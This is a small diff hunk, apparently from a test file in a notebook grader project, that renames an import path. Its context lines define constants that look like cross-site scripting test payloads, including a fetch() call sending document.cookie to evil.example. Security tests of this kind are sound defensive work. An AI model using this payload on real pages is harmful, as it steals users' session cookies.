@@ -8,7 +8,7 @@ import base64
 import nbformat
 
 from grader.base.cards import verdict_html, verdict_text
-from grader.check.verdict import VERDICT_MIME, Verdict
+from grader.checking.verdict import VERDICT_MIME, Verdict
 
 RUN = "window.__pwned=1"
 CALL = "fetch('https://evil.example/'+document.cookie)"
